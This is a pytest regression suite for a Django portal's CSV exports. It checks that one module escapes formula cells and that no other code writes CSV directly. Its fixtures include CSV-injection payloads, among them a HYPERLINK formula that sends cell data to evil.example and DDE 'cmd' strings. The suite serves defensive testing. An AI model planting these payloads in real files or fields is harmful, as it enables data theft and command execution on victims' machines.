"""One CSV writer (issue 13 finding 7, issue 22 "CSV responses"): every CSV download goes
through ``scrutiny.csvexport``, which neutralises formula cells. The regression tests drive
the real views (``/actions.csv``, the committee actions CSV, the open data KPI CSV) and read the
answer back with Python's csv reader."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from meetings.minutes import services
from meetings.minutes.models import ActionNote
from scrutiny import csvexport
from tests.factories import CommitteeFactory, make_user
from tests.factories.minutes import ActionFactory

ROOT = Path(__file__).resolve().parents[2]
HOME = ROOT / "scrutiny" / "csvexport.py"
SKIPPED_DIRS = {".venv", "node_modules", "tests", ".git", "var", "staticfiles"}
WRITERS = {"writer", "DictWriter"}

HOSTILE = {
    "description": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "owner_text": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _portal_sources() -> list[Path]:
    found = []
    for path in ROOT.rglob("*.py"):
        parts = set(path.relative_to(ROOT).parts[:-1])
        if parts & SKIPPED_DIRS or "migrations" in parts:
            continue
        found.append(path)
    return found


def _csv_writers_in(path: Path) -> list[str]:
    """Every use of ``csv.writer`` / ``csv.DictWriter`` in a module, however imported."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    hits = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            hits.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            for alias in node.names:
                if alias.name in WRITERS or alias.name == "*":
                    hits.append(f"{path.relative_to(ROOT)}:{node.lineno} from csv import")
    return hits


def test_csv_writer_is_used_only_in_its_home():
    sources = _portal_sources()
    assert HOME in sources and len(sources) > 50  # the scan sees the portal's code
    assert _csv_writers_in(HOME), "the scan must find the home's own csv.writer"
    elsewhere = [hit for path in sources if path != HOME for hit in _csv_writers_in(path)]
    assert elsewhere == [], (
        "CSV files are written only by scrutiny.csvexport (formula escaping, one date "
        f"format): {elsewhere}"
    )


def test_the_guard_sees_every_way_of_importing_a_writer(tmp_path, monkeypatch):
    monkeypatch.setattr("tests.hardening.test_csv_export.ROOT", tmp_path)
    for n, code in enumerate(
        [
            "import csv\nw = csv.writer(out)\n",
            "import csv\nw = csv.DictWriter(out, fieldnames=[])\n",
            "from csv import writer\n",
            "from csv import DictWriter as W\n",
        ]
    ):
        path = tmp_path / f"m{n}.py"
        path.write_text(code)
        assert _csv_writers_in(path), code
    reader = tmp_path / "reader.py"
    reader.write_text("import csv\nrows = csv.reader(f)\n")
    assert _csv_writers_in(reader) == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("Plain text", "Plain text"),
        (-5, -5),  # a real number is written as a number
        (Decimal("-1.50"), Decimal("-1.50")),
        (None, ""),
        (True, "Yes"),
        (dt.date(2024, 3, 5), "2024-03-05"),
    ],
)
def test_cells(value, written):
    assert csvexport.cell(value) == written


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _hostile_action(committee):
    action = ActionFactory(
        committee=committee,
        description=HOSTILE["description"],
        owner_person=None,
        owner_text=HOSTILE["owner_text"],
        due_date=None,
    )
    ActionNote.objects.create(action=action, on=dt.date(2024, 3, 5), text=HOSTILE["note"])
    return action


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["anonymous", "officer"])
def test_formulas_in_actions_are_neutralised_in_both_action_csvs(client, who):
    committee = CommitteeFactory()
    _hostile_action(committee)
    if who == "officer":
        client.force_login(make_user("officer"))
    for url in (
        reverse("action-tracker-csv"),
        reverse("committee-actions-csv", args=[committee.slug]),
    ):
        response = client.get(url)
        assert response.streaming  # still streamed
        header, *rows = _rows(response)
        [row] = rows
        by_column = dict(zip(header, row, strict=True))
        assert by_column["Action"] == "'" + HOSTILE["description"]
        assert by_column["Owner"] == "'" + HOSTILE["owner_text"]
        # A formula after a date is harmless; the cell itself never starts with one.
        assert by_column["Latest progress"] == "2024-03-05: " + HOSTILE["note"]
        assert by_column["Raised on"] == "2017-08-09"
        for cell in row:
            assert not cell.startswith(csvexport.FORMULA_STARTS), (url, cell)


@pytest.mark.django_db
def test_a_note_that_is_all_formula_and_the_dates_are_iso(client):
    committee = CommitteeFactory()
    action = ActionFactory(committee=committee, description="@SUM(A1:A9)", due_date=None)
    services.add_action_note(action=action, text="=1+1")
    header, row = _rows(client.get(reverse("committee-actions-csv", args=[committee.slug])))
    by_column = dict(zip(header, row, strict=True))
    assert by_column["Action"] == "'@SUM(A1:A9)"
    assert by_column["Due"] == "No date set"
    assert by_column["Latest progress"].endswith(": =1+1")
    assert dt.date.fromisoformat(by_column["Latest progress"].split(":")[0])


@pytest.mark.django_db
def test_negative_kpi_figures_stay_numbers_and_text_is_escaped(client):
    from tests.factories.performance import KPIFactory, figure, financial_year

    periods = financial_year(2016)
    kpi = KPIFactory(reference="KI 1", title="-Net change in budget", unit="pounds")
    figure(kpi, periods["Q1 2016/17"], target=Decimal("-3"), actual=Decimal("-5.5"))
    header, *rows = _rows(client.get(reverse("kpis-csv")))
    [row] = [r for r in rows if r[header.index("period")] == "Q1 2016/17"]
    assert row[header.index("title")] == "'-Net change in budget"
    assert Decimal(row[header.index("actual")]) == Decimal("-5.5")
    assert Decimal(row[header.index("target")]) == Decimal("-3")
    assert row[header.index("period_start")] == "2016-04-01"
